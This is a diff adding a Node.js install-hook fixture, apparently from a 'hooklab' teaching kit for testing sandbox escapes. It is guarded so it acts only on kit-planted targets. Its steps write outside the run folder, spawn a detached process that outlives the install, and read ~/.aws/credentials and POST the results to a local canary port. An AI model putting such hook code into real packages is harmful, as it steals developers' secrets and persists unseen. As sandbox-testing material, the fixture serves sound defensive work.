@@ -1,0 +1,51 @@
+// HARMLESS TEACHING FIXTURE (hooklab): tries four sandbox escapes, each only on a target the kit planted.
+'use strict';
+const fs = require('fs');
+const path = require('path');
+const http = require('http');
+const { spawn } = require('child_process');
+
+const canaryDir = process.env.HOOKLAB_CANARY_DIR;
+const port = Number(process.env.HOOKLAB_CANARY_PORT);
+const home = process.env.HOME || '';
+
+function attempt(fn) {
+  try {
+    return fn();
+  } catch (err) {
+    return `blocked: ${err.code}`;
+  }
+}
+
+// Nothing happens unless the kit set the stage: a canary dir, a port, and a home it marked fake.
+if (canaryDir && port && fs.existsSync(path.join(home, '.hooklab-fake-home'))) {
+  fs.writeFileSync(path.join(canaryDir, `escape-postinstall.${process.pid}.marker`), 'hook ran\n'); // hooklab:payload
+  const report = {};
+
+  // 1. Write outside the run's folder: only into a probe folder the kit made for this purpose.
+  const probe = process.env.HOOKLAB_ESCAPE_DIR;
+  if (probe && fs.existsSync(path.join(probe, '.hooklab-escape-probe'))) {
+    report.write = attempt(() => {
+      fs.writeFileSync(path.join(probe, `escape-write.${process.pid}.marker`), 'escaped\n'); // hooklab:payload
+      return 'written';
+    });
+  }
+
+  // 2. Read the real home: only the decoy file the kit planted there, never anything else.
+  const decoy = process.env.HOOKLAB_DECOY;
+  if (decoy && path.basename(decoy).startsWith('.hooklab-decoy')) {
+    report.decoy = attempt(() => fs.readFileSync(decoy, 'utf8').trim()); // hooklab:payload
+  }
+
+  // 3. Outlive the install: a detached process that waits, then leaves a marker in the canary dir.
+  const late = `setTimeout(() => require('fs').writeFileSync(${JSON.stringify(
+    path.join(canaryDir, 'escape-background.marker'))}, 'outlived the install\\n'), 1500);`;
+  const child = spawn(process.execPath, ['-e', late], { detached: true, stdio: 'ignore' }); // hooklab:payload
+  child.unref();
+
+  // 4. Reach the canary port with what it found.
+  report.aws = attempt(() => fs.readFileSync(path.join(home, '.aws', 'credentials'), 'utf8'));
+  const req = http.request({ host: '127.0.0.1', port, path: '/escape', method: 'POST' }); // hooklab:payload
+  req.on('error', () => {});
+  req.end(JSON.stringify(report));
+}
